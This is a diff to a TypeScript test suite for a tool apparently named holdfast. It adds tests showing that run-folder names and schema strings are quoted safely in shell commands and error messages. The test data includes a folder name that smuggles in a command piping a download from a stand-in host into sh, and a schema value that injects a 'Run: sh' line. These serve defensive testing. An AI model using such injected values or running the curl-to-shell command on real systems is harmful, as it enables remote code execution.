@@ -62,6 +62,16 @@ describe('runs', () => {
       assert.equal(statSync(folder).uid, 0);
     });
 
+  it('are named in commands that are quoted for a shell', async () => {
+    const folder = join(runs, "a'; curl evil.invalid | sh");
+    mkdirSync(folder);
+    const command = `: ./holdfast judge '${folder.replace("'", "'\\''")}'`;
+    const refused = (error: unknown) => error instanceof UsageError && error.message.endsWith(command);
+    assert.throws(() => readFindings(folder), refused);
+    await writeFile(join(folder, 'findings.json'), '{}');
+    assert.throws(() => readFindings(folder), refused);
+  });
+
   it('do not replace `latest` if it is not a link', async () => {
     await writeFile(join(runs, 'latest'), 'words');
     const { id } = newRunFolder(runs, ['rolling-update']);
@@ -117,7 +127,12 @@ describe('runs', () => {
       [
         'of another schema',
         '{"schema":"holdfast.findings/9"}',
-        /unknown schema holdfast\.findings\/9\. Judge the run again/,
+        /unknown schema "holdfast\.findings\/9"\. Judge the run again/,
+      ],
+      [
+        'of a schema with lines of its own',
+        '{"schema":"x\\nRun: sh"}',
+        /unknown schema "x\\nRun: sh"\. Judge the run again/,
       ],
       ['of another shape', '{"verdict":5}', /findings\.json: schema: .*Judge the run again/],
       ['without a plan', '{"schema":"holdfast.findings/2"}', /findings\.json: plan: .*Judge the run again/],
